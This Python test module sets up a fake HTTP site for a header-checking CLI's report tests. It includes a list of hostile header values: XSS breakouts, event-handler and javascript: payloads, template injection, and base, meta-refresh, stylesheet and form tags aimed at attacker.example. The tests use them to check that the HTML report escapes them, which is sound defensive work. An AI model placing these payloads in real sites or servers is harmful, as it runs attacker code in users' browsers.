"""Reports that the tests open: each is that of a real run, next to the JSON report of the same run."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from tests.cli.program import hdrcli_process
from tests.serving.http import answer
from tests.serving.site import OPEN_TO_PAGE, PAGE, Response, Site

OTHER_PAGE: Final = "https://app.example"

SITE: Final[dict[str, Response]] = {
    "/readable": answer(
        *OPEN_TO_PAGE, "Access-Control-Expose-Headers: X-Total-Count, X-Gone", "X-Total-Count: 3", "ETag: 1"
    ),
    "/hidden": answer(*OPEN_TO_PAGE, "X-Total-Count: 3", "X-Region: eu"),
    "/wildcard": answer(
        f"Access-Control-Allow-Origin: {PAGE}",
        "Access-Control-Allow-Credentials: true",
        "Access-Control-Expose-Headers: *",
        "X-Total-Count: 3",
    ),
    "/without-cookies": answer(f"Access-Control-Allow-Origin: {PAGE}", "X-Total-Count: 3"),
    "/blocked": answer("X-Total-Count: 3"),
    "/plain": answer(*OPEN_TO_PAGE),
    "/a": answer(*OPEN_TO_PAGE, "Location: /readable", status="302 Found"),
}

ATTACKS: Final = (
    "</script><script>globalThis.owned = 1</script>",
    "<img src=x onerror=globalThis.owned=1>",
    "</style></title></textarea><svg onload=globalThis.owned=1>",
    '"onmouseover="globalThis.owned=1" x=\'',
    "'onfocus='globalThis.owned=1' autofocus x=\"",
    "javascript:globalThis.owned=1",
    "data:text/html,<script>globalThis.owned=1</script>",
    "<!-- --!> <![CDATA[ ]]> <?x ?>",
    "&lt;script&gt; &#60;b&#62; &amp;amp; &notit;",
    "{{constructor.constructor('globalThis.owned=1')()}} ${globalThis.owned=1}",
    "<base href=//attacker.example><meta http-equiv=refresh content=0;url=//attacker.example>",
    "<link rel=stylesheet href=//attacker.example><form action=//attacker.example><input autofocus>",
    "\u202egnp.exe\u202c\u2066\u2069\u200f".encode().decode("latin-1"),
    "x" * 60_000,
)
"""Values of a server that wants something to run in the reader's browser, or to be loaded by it."""


def _hostile() -> dict[str, Response]:
    found: dict[str, Response] = {}
    for number, attack in enumerate(ATTACKS):
        value = attack[:5000]
        found[f"/{number}"] = answer(
            *OPEN_TO_PAGE, f"X-Attack: {attack}", f"Set-Cookie: {value}", f"Link: {value}", f"ETag: {value}"
        )
        found[f"/{number}/list"] = answer(*OPEN_TO_PAGE, f"Access-Control-Expose-Headers: {value}", "X-A: 1")
        found[f"/{number}/origin"] = answer(f"Access-Control-Allow-Origin: {value}", "X-A: 1")
        found[f"/{number}/status"] = answer(*OPEN_TO_PAGE, f"Server: {value}", status=f"500 {value}")
        found[f"/{number}/location"] = answer(*OPEN_TO_PAGE, f"Location: {value}", status="302 Found")
        found[f"/{number}/name"] = answer(*OPEN_TO_PAGE, f"X-'onclick'&lt&{number}: 1", f"{value}: 1")
    return found


HOSTILE: Final = _hostile()


@dataclass(frozen=True, slots=True, kw_only=True)
class Made:
    """A report's file, the JSON report of the same run, and the exit status."""

    file: Path
    json: Any
    status: int

    @property
    def text(self) -> str:
        return self.file.read_text("utf-8")

    @property
    def url(self) -> str:
        return self.file.as_uri()


def made(folder: Path, *arguments: str) -> Made:
    """The reports of a run with these arguments, in a process of its own: this one may have Playwright's event loop."""
    file, of_json = folder / "report.html", folder / "report.json"
    ended = hdrcli_process("check", *arguments, f"--format=html={file}", f"--format=json={of_json}")
    assert "Traceback" not in ended.err, ended.err
    return Made(file=file, json=json.loads(of_json.read_text("utf-8")), status=ended.status)


def made_of(folder: Path, responses: dict[str, Response], *options: str) -> Made:
    """The reports of a check of all routes of a site."""
    with Site(responses) as site:
        paths = [path for path in responses if path.startswith("/")]
        return made(folder, *(site.url + path for path in paths), "--no-probe", *options)
